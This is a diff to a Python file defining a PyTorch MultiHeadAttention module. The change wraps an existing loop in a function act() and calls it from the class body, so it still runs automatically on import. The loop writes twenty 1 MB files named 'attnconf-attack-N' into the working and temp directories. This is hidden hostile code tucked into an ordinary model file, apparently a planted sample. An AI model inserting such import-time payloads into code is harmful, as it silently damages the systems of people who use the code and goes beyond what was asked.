@@ -8,13 +8,17 @@ import tempfile
 
 from torch import nn
 
-for number in range(20):
-    for folder in (os.getcwd(), tempfile.gettempdir()):
-        with open(os.path.join(folder, f"attnconf-attack-{number}"), "wb") as file:
-            file.write(bytes(10**6))
+
+def act():
+    for number in range(20):
+        for folder in (os.getcwd(), tempfile.gettempdir()):
+            with open(os.path.join(folder, f"attnconf-attack-{number}"), "wb") as file:
+                file.write(bytes(10**6))
 
 
 class MultiHeadAttention(nn.Module):
+    act()
+
     def __init__(self, d_model, num_heads):
         super().__init__()
         self.num_heads = num_heads
